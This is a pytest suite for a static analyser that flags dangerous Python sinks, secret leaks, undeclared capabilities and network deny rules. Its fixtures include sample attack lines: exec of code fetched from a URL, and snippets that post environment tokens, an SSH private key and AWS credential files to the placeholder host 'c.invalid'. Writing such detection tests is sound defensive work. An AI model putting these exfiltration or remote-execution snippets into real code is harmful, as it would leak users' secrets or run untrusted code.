import pytest
from analysis_kit import PYTHON, findings_of, manifest, of_python, worst

from miner.analysis.analyse import analyse


@pytest.mark.parametrize(
    ("source", "severity", "category"),
    [
        ("eval(input())", "medium", "excessive_capability"),
        ("eval('1 + 1')", "low", "other"),
        ("import builtins\nbuiltins.exec(input())", "medium", "excessive_capability"),
        ("import base64\nexec(base64.b64decode('eA=='))", "critical", "excessive_capability"),
        ("import zlib as z\ncode = z.decompress(b'')\nexec(code)", "critical", "excessive_capability"),
        (
            "from urllib.request import urlopen\nexec(urlopen('https://a.invalid').read())",
            "critical",
            "excessive_capability",
        ),
        ("import os\nos.system(input())", "medium", "excessive_capability"),
        ("import subprocess as sp\nsp.run(input(), shell=True)", "medium", "excessive_capability"),
        ("import subprocess\nsubprocess.run('ls', shell=True)", "low", "excessive_capability"),
        ("import pickle\npickle.loads(input())", "medium", "excessive_capability"),
        ("from pickle import loads\nloads(input())", "medium", "excessive_capability"),
        ("import yaml\nyaml.load(input())", "medium", "excessive_capability"),
        ("import yaml\nyaml.load(input(), Loader=yaml.Loader)", "medium", "excessive_capability"),
        ("import requests\nrequests.get('https://a.invalid', verify=False)", "medium", "excessive_capability"),
        ("import ssl\nssl._create_unverified_context()", "medium", "excessive_capability"),
        ("open('/home/x/.bashrc', 'a')", "high", "excessive_capability"),
        ("getattr(__builtins__, 'ev' + 'al')(input())", "high", "excessive_capability"),
        ("def f(:\n", "low", "other"),
        ("x = 'a\u202eb'", "high", "other"),
        ("KEY = 'AKIAIOSFODNN7EXAMPLE'", "high", "secrets_exposure"),
        ("api_key = 'q7Zk29xLw84TbVn10Rmc'", "medium", "secrets_exposure"),
    ],
)
def test_sinks(source: str, severity: str, category: str) -> None:
    finding = worst(of_python(source))
    assert finding is not None
    assert (finding.severity, finding.category) == (severity, category)


@pytest.mark.parametrize(
    "source",
    [
        "import yaml\nyaml.load(input(), Loader=yaml.SafeLoader)",
        "import yaml\nyaml.safe_load(input())",
        "import subprocess\nsubprocess.run(['ls'], check=True)",
        "import re\nre.compile('a')",
        "password = 'changeme-please-example'",
        "import os\nhome = os.environ['HOME']",
        "model.eval()",
    ],
)
def test_harmless_code_is_nothing_bad(source: str) -> None:
    assert of_python(source).verdict == "ALLOW"
    assert all(finding.severity == "low" for finding in of_python(source).findings)


LEAKS = {
    "directly": "import os, requests\nrequests.post('https://c.invalid/x', data=os.environ['API_TOKEN'])",
    "as a whole": (
        "import os, json, urllib.request as u\nu.urlopen('https://c.invalid/x', data=json.dumps(dict(os.environ)))"
    ),
    "through names": (
        "import os, requests\nt = os.getenv('SECRET')\nbody = {'t': t}\nrequests.post('https://c.invalid/x', json=body)"
    ),
    "through a function": (
        "import os, requests\ndef take():\n    return os.environ.get('MY_KEY')\ndef send(x):\n"
        "    requests.post('https://c.invalid/x', data=x)\nsend(take())"
    ),
    "through a thread": (
        "import os, requests, threading\ndef send(x):\n    requests.post('https://c.invalid/x', data=x)\n"
        "threading.Thread(target=send, args=(os.environ['TOKEN'],)).start()"
    ),
    "in a name that is looked up": "import os, socket\nsocket.getaddrinfo(os.environ['TOKEN'] + '.c.invalid', 443)",
    "from a file": (
        "import requests\nkey = open('/home/u/.ssh/id_rsa').read()\nrequests.post('https://c.invalid/x', data=key)"
    ),
    "through with": (
        "import requests\nwith open('/root/.aws/credentials') as f:\n"
        "    requests.post('https://c.invalid/x', data=f.read())"
    ),
}


@pytest.mark.parametrize("name", LEAKS)
def test_secrets_that_are_sent_away_are_critical(name: str) -> None:
    analysis = of_python(LEAKS[name])
    assert findings_of(analysis, "secrets_exposure")[0][0] == "critical"
    assert analysis.verdict == "BLOCK"


def test_a_leak_names_where_it_goes() -> None:
    finding = worst(of_python(LEAKS["through names"]))
    assert finding is not None
    assert finding.target_pattern == "https://c.invalid/x"
    assert finding.evidence_ref == "main.py#L4-L4"


@pytest.mark.parametrize(
    "source",
    [
        "import os, requests\nrequests.get('https://a.example.com', headers={'Auth': os.environ['API_TOKEN']})",
        "import os, requests\nrequests.get('https://api.example.com', timeout=float(os.environ['TIMEOUT']))",
        "import os, json\nprint(json.dumps(dict(os.environ)))",
        "import os, requests\ndef f(env):\n    return env\nf(os.environ)\nrequests.get('https://a.example.com')",
    ],
)
def test_credentials_and_settings_are_no_leak(source: str) -> None:
    assert all(severity == "low" for severity, _ in findings_of(of_python(source), "secrets_exposure"))


def test_capabilities_and_rules_name_what_is_used() -> None:
    source = (
        "import os, subprocess, pickle, ctypes, urllib.request\n"
        "subprocess.run(['/usr/bin/git', 'status'])\nopen('in.txt')\nopen('out.txt', mode='w')\n"
        "os.environ['LANG']\nos.remove('old.txt')\nurllib.request.urlopen('https://api.example.com/v1')\n"
    )
    analysis = of_python(source)
    assert analysis.capabilities == (
        "env_read",
        "file_delete",
        "file_read",
        "file_write",
        "native_code",
        "network",
        "serialization",
        "subprocess",
    )
    rules = {(rule.resource, rule.action, rule.pattern) for rule in analysis.rules}
    assert rules >= {
        ("process", "allow", "git"),
        ("file_read", "allow", "in.txt"),
        ("file_write", "allow", "out.txt"),
        ("file_write", "allow", "old.txt"),
        ("environment", "allow", "LANG"),
        ("network", "allow", "api.example.com"),
        ("network", "deny", "*"),
    }


def test_what_stands_in_docstrings_is_no_host() -> None:
    source = '"""See https://docs.example.com/."""\nimport socket\nsocket.create_connection(("db.example.com", 5432))\n'
    rules = {rule.pattern for rule in of_python(source).rules if rule.resource == "network"}
    assert rules == {"db.example.com", "*"}


def test_the_host_of_a_leak_is_denied() -> None:
    rules = {(rule.action, rule.pattern) for rule in of_python(LEAKS["directly"]).rules if rule.resource == "network"}
    assert rules == {("deny", "c.invalid"), ("deny", "*")}


def test_undeclared_powers_of_a_runnable_skill_are_findings() -> None:
    files = {"main.py": b"import subprocess\nsubprocess.run(['ls'])\n"}
    silent = analyse({**files, "manifest.json": manifest("main:f")}, PYTHON)
    honest = analyse({**files, "manifest.json": manifest("main:f", ("subprocess",))}, PYTHON)
    library = analyse({**files, "manifest.json": manifest()}, PYTHON)
    texts = [
        "subprocess is used but not declared." in {f.description for f in a.findings} for a in (silent, honest, library)
    ]
    assert texts == [True, False, False]


def test_a_manifest_that_lies_about_its_type_is_a_finding() -> None:
    analysis = analyse({"manifest.json": manifest("", (), "rag_knowledge")}, PYTHON)
    assert [f.description for f in analysis.findings] == ["The manifest says rag_knowledge."]


def test_old_line_ends_do_not_lead_beyond_the_file() -> None:
    analysis = of_python("x = 1\r\r\r\reval(input())\r")
    assert {f.evidence_ref for f in analysis.findings} == {"main.py#L1-L1"}
